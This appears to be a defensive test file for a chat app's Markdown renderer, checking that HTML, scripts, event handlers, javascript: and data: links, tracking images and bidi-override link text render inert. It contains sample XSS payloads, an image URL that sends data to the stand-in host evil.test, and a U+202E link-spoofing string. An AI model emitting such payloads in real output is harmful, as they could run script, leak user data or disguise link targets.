// @vitest-environment happy-dom
import { render } from 'preact';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from '@/components/chat/Markdown';

function show(text: string, citations = 0): HTMLElement {
  const root = document.createElement('div');
  document.body.append(root);
  render(<Markdown text={text} citations={citations} />, root);
  return root;
}

afterEach(() => {
  document.body.innerHTML = '';
});

describe('<Markdown> renders hostile model output inert', () => {
  it('renders HTML, scripts and event handlers as visible text, not elements', () => {
    const root = show(
      '<img src="http://127.0.0.1:1/leak?c=1" onerror="alert(1)">\n\n<script>window.pwned = 1</script>\n\n<iframe src="https://evil.test"></iframe> <svg onload=alert(1)>',
    );
    expect(root.querySelectorAll('img, script, iframe, svg, [onerror], [onload]')).toHaveLength(0);
    expect(root.textContent).toContain('<script>window.pwned = 1</script>');
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it('never renders a Markdown image as an image', () => {
    const root = show('![secret](https://evil.test/pixel.gif?data=1)');
    expect(root.querySelectorAll('img')).toHaveLength(0);
    const link = root.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.test/pixel.gif?data=1');
    expect(link.textContent).toBe('[image: secret]');
  });

  it('makes javascript:, data: and relative links inert text', () => {
    const root = show('[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](/settings) <javascript:alert(1)>');
    expect(root.querySelectorAll('a')).toHaveLength(0);
    expect(root.querySelectorAll('.inert-link')).toHaveLength(4);
    expect(root.textContent).toContain('(link removed)');
  });

  it('opens real links in a new tab without an opener and shows their real target', () => {
    const root = show('Read [the official site](https://evil.test/login?next=bank) now.');
    const link = root.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.test/login?next=bank');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.nextElementSibling?.textContent).toBe(' (evil.test/login?next=bank)');
  });

  it('renders structure and citation buttons', () => {
    const root = show('## Result\n\n- **Normandy** was named after them [1].\n- Rollo [1, 2]\n\n`code`', 2);
    expect(root.querySelector('h4')?.textContent).toBe('Result');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(root.querySelector('strong')?.textContent).toBe('Normandy');
    expect([...root.querySelectorAll('button.citation-ref')].map((button) => button.textContent)).toEqual(['1', '1', '2']);
  });
});

describe('<Markdown> bidi controls in links (issue 11 item 10)', () => {
  it('isolates the link text and the shown host, so U+202E cannot reverse "(host)"', () => {
    const root = show('Read [\u202Eelpmaxe.knab](https://evil.example/pay) now.');
    const link = root.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.example/pay');
    // The override stays inside an isolate around the link text ...
    const text = link.querySelector('bdi');
    expect(text?.textContent).toBe('\u202Eelpmaxe.knab');
    expect(link.textContent).toBe(text?.textContent);
    // ... and the real target is shown left-to-right in an isolate of its own.
    const target = root.querySelector('.link-target bdi');
    expect(target?.getAttribute('dir')).toBe('ltr');
    expect(target?.textContent).toBe('evil.example/pay');
    expect(root.querySelector('.link-target')!.textContent).toBe(' (evil.example/pay)');
  });
});
